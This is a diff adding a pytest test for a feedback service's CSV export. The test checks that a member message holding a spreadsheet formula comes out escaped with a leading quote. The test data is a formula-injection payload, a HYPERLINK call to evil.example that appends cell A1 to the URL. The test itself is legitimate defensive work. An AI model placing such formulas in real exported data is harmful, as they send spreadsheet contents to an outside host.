@@ -16,6 +16,7 @@ from support import OPERATOR, clean_environ, command
 from service.accounts import store as accounts
 from service.accounts.sessions import Caller
 from service.accounts.store import Account
+from service.audit.model import Actor
 from service.feedback import store
 from service.feedback.model import Thread
 from service.registry.loading import load
@@ -77,6 +78,15 @@ def test_list(feedback: Feedback, threads: list[Thread]) -> None:
     assert [thread["last_message"]["text"] for thread in found] == ["sms, please\nsoon"]
     nothing = feedback("list", "--status", "declined")
     assert (nothing.returncode, nothing.stdout, nothing.stderr) == (0, "", "no requests\n")
+
+
+def test_what_members_write_is_no_formula_to_a_spreadsheet(
+    feedback: Feedback, threads: list[Thread], redis: Redis, registry_file: Path
+) -> None:
+    text = '=HYPERLINK("https://evil.example/"&A1)'
+    store.add_message(redis, threads[0].id, text, load(registry_file), by=Actor.account("alice"))
+    [row, *_] = csv.DictReader(io.StringIO(feedback("list", "--module", "sms", "--format", "csv").stdout))
+    assert row["last message"].startswith("'=HYPERLINK")
 
 
 def test_an_unknown_module_is_refused_with_what_was_meant(feedback: Feedback, threads: list[Thread]) -> None:
